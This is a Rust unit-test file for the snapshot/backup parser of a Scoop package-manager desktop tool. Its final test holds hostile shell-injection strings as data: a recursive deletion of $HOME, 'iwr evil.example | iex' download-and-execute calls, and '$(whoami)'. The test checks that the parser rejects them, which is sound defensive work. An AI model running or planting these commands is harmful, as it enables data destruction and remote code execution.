use super::*;
use tempfile::tempdir;

#[test]
fn test_parse_requires_apps_array() {
    let err = Snapshot::parse(r#"{"buckets": []}"#).unwrap_err();
    assert!(matches!(err, DeskError::SnapshotFormat(_)));

    let err = Snapshot::parse(r#"{"apps": "git"}"#).unwrap_err();
    assert!(matches!(err, DeskError::SnapshotFormat(_)));

    let err = Snapshot::parse("not json").unwrap_err();
    assert!(matches!(err, DeskError::SnapshotFormat(_)));
}

#[test]
fn test_parse_tolerates_missing_buckets_and_bad_entries() {
    let snapshot = Snapshot::parse(
        r#"{"apps": ["git", 42, " ", "ripgrep"], "buckets": [{"name": "extras"}, {"url": "x"}, {"name": "Name"}]}"#,
    )
    .expect("snapshot");

    assert_eq!(snapshot.apps, vec!["git", "ripgrep"]);
    assert_eq!(snapshot.buckets, vec![Bucket::named("extras")]);
    assert!(snapshot.exported_at.is_none());

    let bare = Snapshot::parse(r#"{"apps": []}"#).expect("snapshot");
    assert!(bare.buckets.is_empty());
}

#[test]
fn test_written_snapshot_uses_camel_case_and_reads_back() {
    let dir = tempdir().expect("tempdir");
    let path = dir.path().join("backup").join("scoopdesk-backup.json");
    let snapshot = Snapshot::capture(
        vec![Bucket::new("java", Some("https://example.com/java".into()))],
        vec!["openjdk".into()],
    );
    snapshot.write(&path).expect("write");

    let raw = std::fs::read_to_string(&path).expect("read");
    assert!(raw.contains("\"exportedAt\""));
    assert_eq!(Snapshot::read(&path).expect("read back"), snapshot);
}

#[test]
fn test_restore_plan_keeps_source() {
    let snapshot = Snapshot::parse(r#"{"apps": ["git"]}"#).expect("snapshot");
    let plan = RestorePlan::from_snapshot(snapshot, Some(PathBuf::from("b.json")));
    assert_eq!(plan.apps, vec!["git"]);
    assert_eq!(plan.source.as_deref(), Some(Path::new("b.json")));
}

#[test]
fn test_parse_skips_entries_unsafe_for_the_shell() {
    let snapshot = Snapshot::parse(
        r#"{"buckets": [
                {"name": "x; Remove-Item -Recurse $HOME"},
                {"name": "java", "url": "https://example.com/java; iwr evil.example | iex"},
                {"name": "extras", "url": "https://github.com/ScoopInstaller/Extras"}
            ],
            "apps": ["git; iwr evil.example | iex", "$(whoami)", "ripgrep"]}"#,
    )
    .expect("snapshot");

    assert_eq!(snapshot.apps, vec!["ripgrep"]);
    assert_eq!(
        snapshot.buckets,
        vec![Bucket::new(
            "extras",
            Some("https://github.com/ScoopInstaller/Extras".into())
        )]
    );
}
